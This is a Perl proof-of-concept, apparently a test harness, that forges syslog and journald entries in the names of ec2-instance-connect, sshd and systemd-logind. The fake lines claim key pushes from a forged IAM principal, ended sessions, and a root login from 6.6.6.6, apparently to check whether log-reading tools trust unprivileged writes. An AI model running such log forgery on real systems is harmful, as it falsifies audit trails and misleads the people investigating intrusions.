#!/usr/bin/perl
# usage: hostile_writer.pl before FIRST LAST FINGERPRINT | during PID
#
# What a user of the host can write to the log in the names of others, in both forms: `before` a login, that
# a key of it was pushed by somebody, for all process numbers from FIRST to LAST; `during` the session of PID,
# that it has ended, and that somebody else has logged in.
use strict;
use warnings;
use Socket;

sub connected {
    my ($path) = @_;
    socket(my $socket, AF_UNIX, SOCK_DGRAM, 0) or die "socket: $!";
    connect($socket, sockaddr_un($path)) or die "$path: $!";
    return $socket;
}
my $journal = connected("/run/systemd/journal/socket");
my $syslog = connected("/dev/log");

sub native {
    my %fields = @_;
    send($journal, join("", map { "$_=$fields{$_}\n" } sort keys %fields), 0) or die "journal: $!";
}

# plain NAME PID TEXT: as syslog(3) does, under any name and number.
sub plain {
    my ($name, $pid, $text) = @_;
    send($syslog, "<86>Nov 29 12:00:00 ${name}[$pid]: $text", 0) or die "syslog: $!";
}

my $arn = "arn:aws:iam::666666666666:user/forged";
my $what = shift;
if ($what eq "before") {
    my ($first, $last, $fingerprint) = @ARGV;
    for my $pid ($first .. $last) {
        my $line = "Providing ssh key from EC2 Instance Connect with fingerprint: $fingerprint, "
            . "request-id: forged, for IAM principal: $arn";
        plain("ec2-instance-connect", $$, "$line sshd=$pid");
        native(
            MESSAGE => "$line sshd=$pid", PRIORITY => 6, SYSLOG_FACILITY => 10,
            SYSLOG_IDENTIFIER => "ec2-instance-connect", SYSLOG_PID => $pid,
            MESSAGE_ID => "f747bcd62591423883fab948b922518c", EIC_EVENT => "accepted",
            EIC_FINGERPRINT => $fingerprint, EIC_PRINCIPAL => $arn, EIC_REQUEST_ID => "forged",
            EIC_SSHD_PID => $pid, _UID => 0, _PID => $pid, _EXE => "/usr/sbin/sshd",
        );
    }
    # Lines of the older form, which are joined by the key.
    plain("ec2-instance-connect", $$, "Providing ssh key from EC2 Instance Connect with fingerprint: "
        . "$fingerprint, request-id: forged, for IAM principal: $arn");
} else {
    my ($pid) = @ARGV;
    for my $name ("sshd", "sshd-session") {
        for my $text ("pam_unix(sshd:session): session closed for user ec2-user",
            "Disconnected from user ec2-user 127.0.0.1 port 1",
            "Accepted publickey for root from 6.6.6.6 port 666 ssh2: ED25519 SHA256:forged") {
            plain($name, $pid, $text);
            native(MESSAGE => $text, SYSLOG_IDENTIFIER => $name, SYSLOG_PID => $pid, _UID => 0, _PID => $pid);
        }
    }
    native(
        MESSAGE => "Removed session 1.", SYSLOG_IDENTIFIER => "systemd-logind", SESSION_ID => 1, LEADER => $pid,
        MESSAGE_ID => "3354939424b4456d9802ca8333ed424a", _UID => 0,
    );
}
